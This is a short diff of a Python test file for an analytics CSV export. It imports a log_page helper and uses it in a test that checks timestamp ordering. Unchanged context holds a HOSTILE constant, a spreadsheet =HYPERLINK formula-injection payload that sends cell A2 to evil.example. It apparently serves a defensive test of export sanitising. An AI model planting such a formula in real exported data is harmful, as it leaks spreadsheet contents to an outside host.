@@ -13,6 +13,7 @@ from analytics import downloads
 from analytics.access import MANAGER
 from analytics.downloads import inert
 from analytics.filters import Filters
+from analytics.paging import log_page
 
 EVERYTHING = Filters(first=date(1970, 1, 1), last=date(2199, 12, 31), scope=MANAGER, version=0)
 HOSTILE = '=HYPERLINK("https://evil.example/?"&A2;"Åpne")'
@@ -96,7 +97,7 @@ def test_times_are_the_shops_clock_and_the_newest_comes_first(store):
     chosen = EVERYTHING.narrowed(first=date(2026, 10, 27), last=date(2026, 10, 31))
     content = rows_of(store, chosen, "en").decode("utf-8-sig")
     times = [row["Sent (Europe/Oslo)"] for row in csv.DictReader(StringIO(content))]
-    newest = store.ask("log_page", chosen, rows=1, skipped=0)["sent_at"].iloc[0]
+    newest = log_page(store.ask, chosen, rows=1, skipped=0)["sent_at"].iloc[0]
     assert times[0] == newest.strftime("%Y-%m-%d %H:%M:%S")
     assert times == sorted(times, reverse=True)
 
